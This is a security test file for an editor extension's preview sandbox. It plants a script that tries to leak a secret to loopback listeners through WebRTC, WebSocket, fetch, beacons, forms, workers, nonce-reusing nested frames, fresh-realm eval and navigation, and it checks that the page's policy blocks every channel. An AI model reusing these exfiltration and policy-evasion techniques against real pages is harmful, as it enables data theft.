/**
 * "The preview loads nothing from the network", for every channel, not only fetch: a planted atom runs
 * in headless Chromium and tries to send another atom's secret out through WebRTC (STUN and TURN servers
 * and a remote ICE candidate at a loopback UDP listener, a data channel), WebTransport, a nested frame
 * that would run its own script, WebSocket, EventSource, fetch, sendBeacon, images, CSS, prefetch and
 * preconnect links, a form, a worker, popups and navigation of its own frame and of the top frame. Two
 * listeners on 127.0.0.1 (UDP and TCP) must hear nothing. Three places run atom code: the editor's live
 * preview (the webview's page and its frame, media/shared/frame.ts), the MCP Apps game (the same frame
 * under game.html's policy) and the loopback browser preview (src/preview/previewServer.ts).
 *
 * A control page without any of this runs the same WebRTC attempt and must be heard, so a quiet listener
 * means the measures stopped it, not that the attempt could not work here.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket, type Socket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net';
import { join } from 'node:path';
import * as esbuild from 'esbuild';
import type { BrowserContext, Page } from 'playwright-core';
import { webviewCsp } from '../../src/preview/csp.js';
import { PreviewServer } from '../../src/preview/previewServer.js';
import { tempDir } from '../support/tmp.js';

const root = join(__dirname, '..', '..');
/** Every wait is bounded. */
const WAIT = 30_000;
/** How long the listeners keep listening after the planted atom made its last attempt. */
const LISTEN = 2_500;
const SECRET = 'SECRET-of-another-atom-4f1c';

let browser: BrowserContext;
let udp: Socket;
let tcp: TcpServer;
let host: HttpServer;
let heard: string[] = [];
/** TCP connections that carried no byte (see `run`). */
let connections = 0;
let udpPort = 0;
let tcpPort = 0;
let hostPort = 0;
/** The host's pages by path: the webview's page and the game's, each mounting the frame as they do. */
const hostPages = new Map<string, string>();

/**
 * The planted atom: every attempt in its own try, then a console line saying it is done. Nothing here
 * depends on an attempt succeeding; the listeners tell.
 */
function plantedAtom(): string {
  const udpAt = `127.0.0.1:${udpPort}`;
  const http = `http://127.0.0.1:${tcpPort}`;
  return `function planted_atom() {
  var secret = ${JSON.stringify(SECRET)};
  function attempt(name, f) { try { var r = f(); if (r && r.catch) r.catch(function () {}); } catch (e) {} }
  function rtc(PC) {
    var pc = new PC({ iceServers: [{ urls: 'stun:${udpAt}' }, { urls: 'turn:${udpAt}?transport=udp', username: secret, credential: secret }] });
    var channel = pc.createDataChannel(secret);
    return pc.createOffer().then(function (offer) {
      return pc.setLocalDescription(offer).then(function () {
        var remote = new PC();
        var sdp = offer.sdp.replace(/(a=mid:0\\r\\n)/, '$1a=candidate:1 1 udp 2122260223 127.0.0.1 ${udpPort} typ host\\r\\n');
        return remote.setRemoteDescription({ type: 'offer', sdp: sdp }).then(function () { return remote.createAnswer(); }).then(function (a) { return remote.setLocalDescription(a); });
      });
    });
  }
  attempt('RTCPeerConnection', function () { return rtc(RTCPeerConnection); });
  attempt('webkitRTCPeerConnection', function () { return rtc(webkitRTCPeerConnection); });
  attempt('RTCPeerConnection from the prototype chain', function () { return rtc(Object.getPrototypeOf(RTCDataChannel.prototype).constructor); });
  attempt('WebTransport', function () { return new WebTransport('https://${udpAt}/' + secret).ready; });
  attempt('WebSocket', function () { new WebSocket('ws://127.0.0.1:${tcpPort}/' + secret); });
  attempt('EventSource', function () { new EventSource('${http}/es?' + secret); });
  attempt('fetch', function () { return fetch('${http}/fetch?' + secret, { mode: 'no-cors' }); });
  attempt('sendBeacon', function () { navigator.sendBeacon('${http}/beacon', secret); });
  attempt('image', function () { new Image().src = '${http}/img?' + secret; });
  attempt('CSS url()', function () { document.documentElement.style.background = 'url(${http}/css?' + secret + ')'; });
  attempt('links', function () {
    ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon'].forEach(function (rel) {
      var l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '${http}/' + rel + '?' + secret; document.head.appendChild(l);
    });
  });
  attempt('form', function () {
    var f = document.createElement('form'); f.method = 'POST'; f.action = '${http}/form'; f.target = '_blank';
    var i = document.createElement('input'); i.name = 's'; i.value = secret; f.appendChild(i); document.body.appendChild(f); f.submit();
  });
  attempt('window.open', function () { window.open('${http}/popup?' + secret); });
  attempt('worker', function () { new Worker(URL.createObjectURL(new Blob(['fetch("${http}/worker?' + secret + '")'], { type: 'text/javascript' }))); });
  attempt('a nested frame that runs a script of its own', function () {
    var nonce = '';
    Array.prototype.forEach.call(document.querySelectorAll('script'), function (s) { nonce = nonce || s.nonce || s.getAttribute('nonce') || ''; });
    var own = document.createElement('iframe');
    own.srcdoc = '<script nonce="' + nonce + '">var p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${udpAt}" }] }); p.createDataChannel("' + secret + '"); p.createOffer().then(function (o) { return p.setLocalDescription(o); }); new WebSocket("ws://127.0.0.1:${tcpPort}/nested");<\\/script>';
    document.body.appendChild(own);
    // The same, with a copy of a script this page was allowed to run.
    var copy = document.createElement('iframe');
    copy.srcdoc = Array.prototype.map.call(document.querySelectorAll('script'), function (s) { return '<script>' + s.textContent + '<\\/script>'; }).join('') + '<script>new RTCPeerConnection({ iceServers: [{ urls: "stun:${udpAt}" }] }).createOffer();<\\/script>';
    document.body.appendChild(copy);
    var data = document.createElement('iframe');
    data.src = 'data:text/html,<script>new WebSocket("ws://127.0.0.1:${tcpPort}/data")<\\/script>';
    document.body.appendChild(data);
  });
  attempt('an about:blank frame, a fresh realm', function () {
    var blank = document.createElement('iframe');
    document.body.appendChild(blank);
    return rtc(blank.contentWindow.RTCPeerConnection);
  });
  attempt('an about:blank frame through window[i]', function () {
    document.body.appendChild(document.createElement('iframe'));
    return rtc(window[window.length - 1].RTCPeerConnection);
  });
  // With hot swap the frame may evaluate code ('unsafe-eval', csp.ts): evaluated code must find no realm without the lockdown.
  attempt('eval in an about:blank frame', function () {
    var f = document.createElement('iframe');
    document.body.appendChild(f);
    return f.contentWindow.eval('var p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${udpAt}" }] }); p.createDataChannel("' + secret + '"); p.createOffer().then(function (o) { return p.setLocalDescription(o); })');
  });
  attempt('the Function constructor of an about:blank frame', function () {
    var f = document.createElement('iframe');
    document.body.appendChild(f);
    return rtc(new f.contentWindow.Function('return RTCPeerConnection')());
  });
  attempt('eval and new Function here', function () {
    eval('new WebSocket("ws://127.0.0.1:${tcpPort}/eval")');
    return rtc(new Function('return this.RTCPeerConnection || self.RTCPeerConnection')());
  });
  attempt('top navigation', function () { top.location.href = '${http}/top?' + secret; });
  console.log('planted: tried every channel');
  setTimeout(function () {
    attempt('meta refresh', function () { var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${http}/refresh?' + secret; document.head.appendChild(m); });
    attempt('navigation of its own frame', function () { location.href = '${http}/self?' + secret; });
  }, 300);
}
planted_atom();
`;
}

/** The webview's page or the game's: `csp` in front, and the frame mounted by media/shared/frame.ts. */
function hostPage(csp: string, page: string | null, bundle: string, hotSwap = false): string {
  const args = JSON.stringify({ page, bundle, hotSwap }).replace(/</g, '\\u003c');
  return `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${csp}"></head>
<body><div id="stage"></div><script src="/mount.js"></script><script src="/go.js?args=${encodeURIComponent(args)}"></script></body></html>`;
}

function listen<T extends TcpServer | HttpServer>(server: T): Promise<number> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
}

before(async () => {
  udp = createSocket('udp4');
  udp.on('message', (m, from) => heard.push(`UDP ${m.length} bytes from ${from.address}:${from.port}${m.includes(SECRET) ? ' (with the secret)' : ''}`));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', () => resolve()));
  udpPort = udp.address().port;
  tcp = createTcpServer((socket) => {
    connections++;
    socket.once('data', (d) => {
      heard.push(`TCP: ${d.toString('latin1').split('\r\n')[0]}`);
      socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n');
    });
    socket.on('error', () => {});
    socket.setTimeout(1000, () => socket.destroy());
  });
  tcpPort = await listen(tcp);

  const mount = await esbuild.build({
    stdin: {
      contents: `import { mountBundleFrame } from './media/shared/frame.js';
        window.mountPlanted = (page, bundle, hotSwap) => mountBundleFrame(document.getElementById('stage'), undefined, page, bundle, 'planted', hotSwap === true);`,
      resolveDir: root,
      loader: 'ts',
    },
    bundle: true,
    write: false,
    platform: 'browser',
    format: 'iife',
    target: 'es2022',
    logLevel: 'silent',
  });
  const mountJs = mount.outputFiles[0]!.text;
  host = createHttpServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    if (url.pathname === '/mount.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript; charset=utf-8' }).end(mountJs);
    if (url.pathname === '/go.js') {
      const args = url.searchParams.get('args') ?? '{}';
      // The frame's console lines, as its prelude posts them to the page that holds it (VS Code's webview and the game app listen the same way).
      const listen = `window.consoleLines = []; window.addEventListener('message', function (e) { if (e.data && e.data.kind === 'console') window.consoleLines.push(e.data.text); });`;
      return void res.writeHead(200, { 'Content-Type': 'text/javascript; charset=utf-8' }).end(`${listen} var a = ${args}; window.mountPlanted(a.page, a.bundle, a.hotSwap);`);
    }
    const html = hostPages.get(url.pathname);
    if (!html) return void res.writeHead(404).end();
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(html);
  });
  hostPort = await listen(host);

  const lib = (await import(join(root, 'scripts', 'e2e', 'lib.mjs'))) as { launchBrowser(runDir: string, viewport?: object): Promise<BrowserContext> };
  browser = await lib.launchBrowser(tempDir('preview-exfiltration-browser-'), { width: 800, height: 600 });
});

after(async () => {
  await browser?.close().catch(() => {});
  udp?.close();
  tcp?.close();
  host?.closeAllConnections();
  host?.close();
});

const DONE = 'planted: tried every channel';

/** The planted atom's last console line, as the page holding the frame received it (`window.consoleLines`, see /go.js). */
async function saidInPage(page: Page): Promise<void> {
  await page.waitForFunction((done) => (window as unknown as { consoleLines?: string[] }).consoleLines?.includes(done) === true, DONE, { timeout: WAIT, polling: 100 });
}

/**
 * Opens `url`, waits until `finished` says the planted atom has tried everything, listens a while;
 * returns what was heard. Not through Playwright's console events: under load, Chromium can report a
 * sandboxed frame's console call before Playwright knows the frame's context, and the line is dropped.
 */
async function run(url: string, finished: (page: Page) => Promise<void> = saidInPage): Promise<string[]> {
  heard = [];
  connections = 0;
  const page: Page = await browser.newPage();
  try {
    const logs: string[] = [];
    page.on('console', (m) => logs.push(m.text()));
    await page.goto(url, { waitUntil: 'commit' });
    await finished(page);
    await new Promise((resolve) => setTimeout(resolve, LISTEN));
    if (process.env.EXFIL_DEBUG) console.log(logs.join('\n'));
    // A navigation that the policy blocks (the frame's own, to another address) still has Chromium open a
    // TCP connection to that address before it checks, sending nothing on it: heard here as a connection
    // without a byte, and not counted (no policy of a page stops it; see the report of this change).
    if (connections) console.log(`(${connections} TCP connections without a byte: navigations Chromium preconnected before blocking them)`);
    return heard;
  } finally {
    // The page and any window it managed to open.
    for (const p of browser.pages()) await p.close();
  }
}

describe('the preview sends nothing out: WebRTC, WebTransport, nested frames, navigation and the rest', () => {
  it("the editor's live preview (the webview's page and its frame) reaches no listener", async () => {
    // The webview's policy as VS Code gives it, with this host standing for the webview's resource origin.
    hostPages.set('/webview', hostPage(webviewCsp(`http://127.0.0.1:${hostPort}`), null, plantedAtom()));
    assert.deepEqual(await run(`http://127.0.0.1:${hostPort}/webview`), []);
    // The workspace's own page too: its inline script is run the same way.
    const own = '<!doctype html><html><head><style>body{margin:0}</style></head><body><canvas id="game"></canvas><script>window.pageScript = 1;</script><script src="latest.js"></script></body></html>';
    hostPages.set('/webview-own-page', hostPage(webviewCsp(`http://127.0.0.1:${hostPort}`), own, plantedAtom()));
    assert.deepEqual(await run(`http://127.0.0.1:${hostPort}/webview-own-page`), []);
  });

  it("the editor's live preview with hot swap on (eval allowed in the frame) reaches no listener", async () => {
    hostPages.set('/webview-hot', hostPage(webviewCsp(`http://127.0.0.1:${hostPort}`, true), null, plantedAtom(), true));
    assert.deepEqual(await run(`http://127.0.0.1:${hostPort}/webview-hot`), []);
  });

  it('the MCP Apps game (the same frame under game.html) reaches no listener', async () => {
    const gamePolicy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(readFileSync(join(root, 'media', 'apps', 'game.html'), 'utf8'))![1]!;
    // game.html's own policy, with this host's scripts admitted in place of the app's inline code.
    const policy = gamePolicy.replace("script-src 'unsafe-inline'", `script-src 'unsafe-inline' http://127.0.0.1:${hostPort}`);
    hostPages.set('/game', hostPage(policy, null, plantedAtom()));
    assert.deepEqual(await run(`http://127.0.0.1:${hostPort}/game`), []);
  });

  it('the loopback browser preview reaches no listener', async () => {
    const bundle = plantedAtom();
    const server = await PreviewServer.start({ bundle: () => bundle, page: () => null, hotSwap: () => true });
    const reports: string[] = [];
    let reported = () => {};
    const said = new Promise<void>((resolve) => (reported = resolve));
    server.onDidReport((r) => {
      reports.push(r.kind === 'console' ? r.text : r.message);
      if (r.kind === 'console' && r.text === DONE) reported();
    });
    try {
      // The frame's console reaches the server through the page (its /log): that is the sign it is done.
      const done = () => Promise.race([said, new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`no '${DONE}' report within ${WAIT} ms: ${JSON.stringify(reports)}`)), WAIT).unref())]);
      assert.deepEqual(await run(server.url, done), []);
    } finally {
      await server.close();
    }
  });
  // Last: an unprotected page may open windows and navigate, which must not be heard in the tests above.
  it('control: the same WebRTC attempt on a page without these measures reaches the UDP listener', async () => {
    const record = `window.consoleLines = []; var log = console.log; console.log = function (t) { window.consoleLines.push(String(t)); return log.apply(console, arguments); };`;
    hostPages.set('/control', `<!doctype html><html><body><script>${record}</script><script>${plantedAtom()}</script></body></html>`);
    const got = await run(`http://127.0.0.1:${hostPort}/control`);
    assert.ok(got.some((h) => h.startsWith('UDP')), `the listener hears WebRTC from an unprotected page: ${JSON.stringify(got)}`);
  });

});
